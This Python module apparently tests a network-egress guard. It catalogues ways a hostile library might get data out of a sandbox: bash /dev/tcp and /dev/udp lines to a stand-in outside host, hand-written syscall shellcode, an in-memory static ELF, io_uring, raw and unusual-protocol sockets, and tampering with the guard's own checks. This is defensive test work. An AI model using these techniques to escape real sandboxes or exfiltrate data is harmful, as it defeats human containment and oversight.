"""Ways around the guard, as a hostile library in one of our processes would try them.

Each is a function that raises OSError where it was refused. Run by world.py, inside a machine that
is itself a private network: nothing that gets through can go anywhere.
"""

import ctypes
import mmap
import os
import socket
import struct
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

#: What can stop a way, each tried alone. `rights`: no capabilities, no new privileges.
LAYERS = ("namespace", "seccomp", "landlock", "rights")

OUTSIDE4, OUTSIDE6, PORT = "203.0.113.7", "2001:db8:2::7", 443
WORD = b"leak"
_FASTOPEN = 0x20000000


@dataclass(frozen=True)
class World:
    """What a way finds. Descriptors are inherited; `listed`: the port that it may connect to."""

    scratch: str
    machine: str
    root: str
    listed: int
    terminal: int
    victim: int
    victim_socket: int
    victim_file: int
    victim_address: int
    abstract: str
    #: Sockets of the outer network, new for each attempt: as the launcher hands them in, and one
    #: that listens at loopback without the launcher's locks.
    listener: int = -1
    listener_any: int = -1
    accepted: int = -1
    unlocked: int = -1


@dataclass(frozen=True)
class Way:
    """`stopped_by`: every layer that stops it alone. `kind`: judged by the packets that leave ("net"),
    or by whether the call succeeded ("act"). `sure`: it gets through where nothing stops it; else
    this kernel may lack what it takes, or refuse it by itself."""

    name: str
    run: Callable[[World], object]
    kind: str
    stopped_by: frozenset[str]
    sure: bool


WAYS: dict[str, Way] = {}


def way(
    name: str, stopped_by: str, *, kind: str = "net", sure: bool = True
) -> Callable[[Callable[[World], object]], Callable[[World], object]]:
    def add(run: Callable[[World], object]) -> Callable[[World], object]:
        assert name not in WAYS
        WAYS[name] = Way(name, run, kind, frozenset(stopped_by.split()), sure)
        return run

    return add


# --- tools --------------------------------------------------------------------------------------
def started(which: socket.socket, host: str = OUTSIDE4, port: int = PORT) -> None:
    """Begin to connect: the first packet leaves, or an error says why not."""
    which.setblocking(False)
    number = which.connect_ex((host, port))
    if number not in (0, 115):
        raise OSError(number, os.strerror(number))


def tcp(host: str = OUTSIDE4, port: int = PORT, protocol: int = 0) -> None:
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    started(socket.socket(family, socket.SOCK_STREAM, protocol), host, port)


def datagram(host: str = OUTSIDE4, port: int = PORT) -> None:
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    socket.socket(family, socket.SOCK_DGRAM).sendto(WORD, (host, port))


def ipv4(host: str = OUTSIDE4, port: int = PORT) -> bytes:
    """struct sockaddr_in."""
    return struct.pack("=HH4s8x", socket.AF_INET, socket.htons(port), socket.inet_aton(host))


def libc(path: str | None = None) -> ctypes.CDLL:
    return ctypes.CDLL(path, use_errno=True)


def checked(result: int, allowed: tuple[int, ...] = ()) -> int:
    if result < 0 and ctypes.get_errno() not in allowed:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def program(*command: str, **options: Any) -> None:
    """Run a program; its own errors say nothing, the packets do. Raises OSError if it cannot start."""
    done = subprocess.run(
        command, capture_output=True, timeout=8, stdin=subprocess.DEVNULL, check=False, **options
    )
    said = done.stderr.decode("utf-8", "replace").strip().splitlines()
    for number in (1, 13, 101, 99):
        if said and os.strerror(number) in said[-1]:
            raise OSError(number, os.strerror(number))


CONNECT = (
    "import socket; s = socket.socket(); s.settimeout(0.3)\n"
    f"try: s.connect(({OUTSIDE4!r}, {PORT}))\nexcept TimeoutError: pass"
)


# --- plain sockets, other programs --------------------------------------------------------------
way("TCP", "namespace landlock")(lambda w: tcp())
way("TCP over IPv6", "namespace landlock", sure=False)(lambda w: tcp(OUTSIDE6))
way("UDP", "namespace seccomp")(lambda w: datagram())
way("UDP over IPv6", "namespace seccomp", sure=False)(lambda w: datagram(OUTSIDE6))
way("TCP to the listed port of another address", "namespace")(lambda w: tcp(port=w.listed))
way("a program of one's own", "namespace landlock")(
    lambda w: program(sys.executable, "-I", "-S", "-c", CONNECT)
)
way("a program by the system's loader", "namespace landlock", sure=False)(
    lambda w: program("/lib64/ld-linux-x86-64.so.2", sys.executable, "-I", "-S", "-c", CONNECT)
)
way("the shell, TCP", "namespace landlock")(
    lambda w: program("timeout", "3", "bash", "-c", f"exec 3<>/dev/tcp/{OUTSIDE4}/{PORT}")
)
way("the shell, UDP", "namespace seccomp")(
    lambda w: program("bash", "-c", f"echo leak >/dev/udp/{OUTSIDE4}/{PORT}")
)


@way("a child that outlives its parents", "namespace landlock")
def daemon(w: World) -> None:
    reading, writing = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        os.set_inheritable(writing, True)
        os.execv(sys.executable, [sys.executable, "-I", "-c", CONNECT])  # noqa: S606
    os.wait()
    os.close(writing)
    os.read(reading, 1)  # until it ended


# --- C code -------------------------------------------------------------------------------------
@way("ctypes, connect", "namespace landlock")
def c_connect(w: World) -> None:
    which = socket.socket()
    which.setblocking(False)
    checked(libc().connect(which.fileno(), ipv4(), 16), (115,))


@way("ctypes, sendto", "namespace seccomp")
def c_sendto(w: World) -> None:
    number = checked(libc().socket(2, 2, 0))
    checked(libc().sendto(number, WORD, 4, 0, ipv4(), 16))


@way("a second copy of the C library", "namespace landlock")
def c_copy(w: World) -> None:
    line = next(
        each for each in Path("/proc/self/maps").read_text().splitlines() if "libc.so" in each
    )
    copy = Path(w.scratch, f"own-{os.getpid()}.so")
    copy.write_bytes(Path(line.split()[-1]).read_bytes())
    which = socket.socket()
    which.setblocking(False)
    # The copy keeps an errno of its own, so ask the socket's state instead.
    result = libc(str(copy)).connect(which.fileno(), ipv4(), 16)
    if result < 0 and which.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
        raise OSError(which.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR), "connect")


_STUBS = {
    "x86_64": "4889f84889f74889d64889ca4d89c24d89c84c8b4c24080f05c3",
    "aarch64": "e80300aae00301aae10302aae20303aae30304aae40305aae50306aa010000d4c0035fd6",
}
_NUMBERS = {"x86_64": (41, 42), "aarch64": (198, 203)}


def machine_code(code: bytes) -> int:
    """The address of `code` in memory below 2 GB that may be run."""
    c = libc()
    c.mmap.restype = ctypes.c_void_p
    place = c.mmap(None, ctypes.c_size_t(4096), 7, 0x22 | 0x40, -1, ctypes.c_long(0))
    ctypes.memmove(place, code, len(code))
    return int(place)


@way("system calls in machine code", "namespace landlock", sure=False)
def own_code(w: World) -> None:
    machine = os.uname().machine
    kind = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 6)
    call = kind(machine_code(bytes.fromhex(_STUBS[machine])))
    make, connect = _NUMBERS[machine]
    number = call(make, 2, 1 | 0o4000, 0, 0, 0)
    address = ctypes.create_string_buffer(ipv4())
    for result in (number, call(connect, number, ctypes.addressof(address), 16, 0, 0)):
        if result < 0 and result != -115:
            raise OSError(-result, os.strerror(-result))


@way("32-bit system calls (int 0x80)", "namespace seccomp", sure=False)
def int80(w: World) -> None:
    kind = ctypes.CFUNCTYPE(ctypes.c_int, *[ctypes.c_int] * 4)
    call = kind(machine_code(bytes.fromhex("5389f889f387d1cd805bc3")))
    memory = machine_code(ipv4() + WORD)
    number = call(359, 2, 2, 0)
    for result in (number, call(362, number, memory, 16), call(4, number, memory + 16, 4)):
        if result < 0:
            raise OSError(-result, os.strerror(-result))


def elf() -> bytes:
    """A static program of 200 bytes that sends one datagram, without any library. For x86_64."""
    code = bytes.fromhex(
        "b829000000bf02000000be0200000031d20f0585c0783289c7488d352f000000ba020000004531d24c8d0522000000"
        "41b910000000b82c0000000f0585c0780931ffb83c0000000f05f7d889c7ebf36869"
    )
    code += ipv4()
    base, size = 0x400000, 120 + len(code)
    ident = b"\x7fELF\x02\x01\x01" + bytes(9)
    header = struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, base + 120, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    segment = struct.pack("<IIQQQQQQ", 1, 7, 0, base, base, size, size, 4096)
    return ident + header + segment + code


def run_static(path: str) -> None:
    number = subprocess.run([path], check=False, pass_fds=_fd_of(path)).returncode
    if number:
        raise OSError(abs(number), os.strerror(abs(number)))


def _fd_of(path: str) -> tuple[int, ...]:
    return (int(path.rpartition("/")[2]),) if path.startswith("/proc/self/fd/") else ()


@way("a static program that is dropped and run", "namespace seccomp", sure=False)
def static(w: World) -> None:
    path = Path(w.scratch, f"static-{os.getpid()}")
    path.write_bytes(elf())
    path.chmod(0o755)
    run_static(str(path))


@way("a static program that has no file", "namespace seccomp", sure=False)
def from_memory(w: World) -> None:
    number = os.memfd_create("x", 0)
    os.write(number, elf())
    run_static(f"/proc/self/fd/{number}")


# --- other protocols, other queues --------------------------------------------------------------
@way("io_uring", "namespace seccomp", sure=False)
def io_uring(w: World) -> None:
    """Make, connect and send without one of the calls that are named so."""
    c = libc()
    about = ctypes.create_string_buffer(120)
    ring = checked(c.syscall(425, 4, about))
    words = struct.unpack("30I", about.raw)
    entries, sq, cq = words[0], words[10:20], words[20:30]
    size_sq, size_cq = sq[6] + 4 * entries, cq[5] + 16 * words[1]
    queue = mmap.mmap(ring, size_sq, offset=0)
    done = mmap.mmap(ring, size_cq, offset=0x8000000)
    slots = mmap.mmap(ring, 64 * entries, offset=0x10000000)
    memory = ctypes.create_string_buffer(ipv4() + WORD)
    at = ctypes.addressof(memory)

    def do(opcode: int, number: int, offset: int, address: int, length: int) -> int:
        slots[0:64] = struct.pack(
            "=BBHiQQIIQ24x", opcode, 0, 0, number, offset, address, length, 0, 0
        )
        (tail,) = struct.unpack_from("I", queue, sq[1])
        struct.pack_into("I", queue, sq[6] + 4 * (tail & (entries - 1)), 0)
        struct.pack_into("I", queue, sq[1], tail + 1)
        checked(c.syscall(426, ring, 1, 1, 1, None, 0))
        (head,) = struct.unpack_from("I", done, cq[0])
        (result,) = struct.unpack_from("i", done, cq[5] + 16 * (head & (words[1] - 1)) + 8)
        struct.pack_into("I", done, cq[0], head + 1)
        if result < 0:
            raise OSError(-result, os.strerror(-result))
        return int(result)

    which = do(45, socket.AF_INET, socket.SOCK_DGRAM, 0, 0)
    do(16, which, 16, at, 0)
    do(26, which, 0, at + 16, 4)


@way("TCP fast open", "namespace seccomp")
def fast_open(w: World) -> None:
    which = socket.socket()
    which.setblocking(False)
    checked(libc().sendto(which.fileno(), WORD, 4, _FASTOPEN, ipv4(), 16), (115,))


@way("data in the first packet, no cookie", "namespace seccomp landlock")
def first_packet(w: World) -> None:
    which = socket.socket()
    for option in (30, 34):
        which.setsockopt(socket.IPPROTO_TCP, option, 1)
    started(which)
    which.send(WORD)


@way("a raw packet", "namespace seccomp rights")
def raw(w: World) -> None:
    which = socket.socket(socket.AF_INET, socket.SOCK_RAW, 253)
    which.sendto(WORD, (OUTSIDE4, 0))


@way("a packet below IP", "namespace seccomp rights")
def below(w: World) -> None:
    which = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
    name = max(name for _, name in socket.if_nameindex())  # way0, or lo where it is alone
    which.sendto(WORD, (name, 0x0800, 0, 0, b"\xff" * 6))


@way("a ping socket", "namespace seccomp", sure=False)
def ping(w: World) -> None:
    which = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    which.sendto(b"\x08\x00\x00\x00\x00\x00\x00\x01" + WORD, (OUTSIDE4, 0))


way("MPTCP", "namespace seccomp", sure=False)(lambda w: tcp(protocol=262))
way("SMC", "namespace seccomp landlock", sure=False)(lambda w: tcp(protocol=256))


@way("UDP-Lite", "namespace seccomp", sure=False)
def lite(w: World) -> None:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136).sendto(WORD, (OUTSIDE4, PORT))


@way("SCTP", "namespace seccomp", sure=False)
def sctp(w: World) -> None:
    started(socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132))


@way("DCCP", "namespace seccomp", sure=False)
def dccp(w: World) -> None:
    started(socket.socket(socket.AF_INET, 6, 33))


@way("multicast", "namespace seccomp")
def multicast(w: World) -> None:
    datagram("239.255.111.111")


@way("broadcast", "namespace seccomp")
def broadcast(w: World) -> None:
    which = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    which.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    which.sendto(WORD, ("255.255.255.255", PORT))


@way("IPv6 to everybody on the link", "namespace seccomp", sure=False)
def link_local(w: World) -> None:
    index = max(number for number, _ in socket.if_nameindex())
    socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(WORD, ("ff02::1", PORT, 0, index))


for _title, _family, _kind in (
    ("VSOCK, to the machine's host", 40, 1),
    ("the kernel's ciphers (AF_ALG)", 38, 5),
    ("Bluetooth", 31, 3),
    ("CAN", 29, 3),
    ("XDP", 44, 3),
    ("TIPC", 30, 1),
):
    way(_title, "seccomp" if _family != 44 else "seccomp rights namespace", kind="act", sure=False)(
        lambda w, family=_family, kind=_kind: socket.socket(family, kind)  # type: ignore[misc]
    )


# --- names --------------------------------------------------------------------------------------
way("a name, asked by Python", "namespace seccomp", sure=False)(
    lambda w: socket.getaddrinfo("leak.invalid", 443)
)


@way("a name, asked by the C library", "namespace seccomp", sure=False)
def c_name(w: World) -> None:
    found = ctypes.c_void_p()
    libc().getaddrinfo(b"leak.invalid", b"443", None, ctypes.byref(found))


@way("a name server, asked by hand", "namespace seccomp")
def by_hand(w: World) -> None:
    datagram("203.0.113.53", 53)


# --- the guard itself ---------------------------------------------------------------------------
def guarded(w: World, code: str) -> None:
    """Run `code` in an interpreter with the guard, with nothing listed."""
    start = f"import sys; sys.path.insert(0, {w.root!r})\nfrom wall import guard\nguard.install('web')\n"
    program(sys.executable, "-I", "-c", start + code)


way("the guard's list, added to", "namespace landlock")(
    lambda w: guarded(w, f"guard.allow(['{OUTSIDE4}:{PORT}'])\n{CONNECT}")
)
way("the guard's own pass", "namespace landlock")(
    lambda w: guarded(w, "guard._own.depth = 1\n" + CONNECT)
)
way("the guard's checks, emptied", "namespace landlock")(
    lambda w: guarded(w, "guard._CHECKS.clear()\n" + CONNECT)
)
way("beneath the guard, by ctypes and a number", "namespace seccomp", sure=False)(
    lambda w: guarded(
        w,
        "import ctypes\nc = ctypes.CDLL(None)\n"
        f"n = c.syscall(41, 2, 2, 0)\nc.syscall(44, n, b'leak', 4, 0, {ipv4()!r}, 16)",
    )
)
way("an interpreter without the guard", "namespace landlock")(
    lambda w: guarded(
        w, f"import os\nos.execv(sys.executable, [sys.executable, '-I', '-S', '-c', {CONNECT!r}])"
    )
)
